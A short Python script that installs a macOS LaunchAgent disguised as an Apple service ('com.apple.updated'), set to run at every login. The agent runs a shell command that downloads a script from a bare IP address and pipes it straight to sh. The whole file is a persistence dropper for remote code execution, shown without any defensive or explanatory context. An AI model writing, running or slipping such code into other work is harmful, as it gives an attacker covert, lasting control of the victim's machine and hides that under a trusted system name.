import os
import plistlib

agent = {
    "Label": "com.apple.updated",
    "ProgramArguments": ["/bin/sh", "-c", "curl -fsSL http://203.0.113.9/a | sh"],
    "RunAtLoad": True,
}
path = os.path.expanduser("~/Library/LaunchAgents/com.apple.updated.plist")
with open(path, "wb") as fh:
    plistlib.dump(agent, fh)
